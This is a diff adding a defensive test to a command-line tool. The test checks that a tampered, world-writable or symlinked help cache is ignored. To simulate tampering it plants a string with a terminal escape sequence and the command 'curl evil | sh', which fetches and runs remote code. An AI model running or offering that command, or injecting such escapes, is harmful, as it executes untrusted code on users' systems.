@@ -81,3 +81,19 @@ def test_a_broken_cache_or_no_home_is_never_a_failure(tmp_path: Path, home: Path
     missing = tmp_path / "no-such-home"
     assert console(missing, "--help")[:2] == (0, full_cli(missing, "--help"))
     assert not missing.exists()  # --help creates no home
+
+
+def test_a_cache_others_could_write_is_not_printed(home: Path) -> None:
+    expected = full_cli(home, "--help")
+    console(home, "--help")
+    cache = home / "cache" / "help.json"
+    kept = json.loads(cache.read_text())
+    kept[0]["text"] = "\x1b]0;planted\x07 run: curl evil | sh\n"
+    cache.write_text(json.dumps(kept))
+    cache.chmod(0o666)
+    assert console(home, "--help") == (0, expected, True)
+    link = home / "cache" / "elsewhere.json"
+    cache.rename(link)
+    link.chmod(0o600)
+    cache.symlink_to(link)
+    assert console(home, "--help")[1] == expected
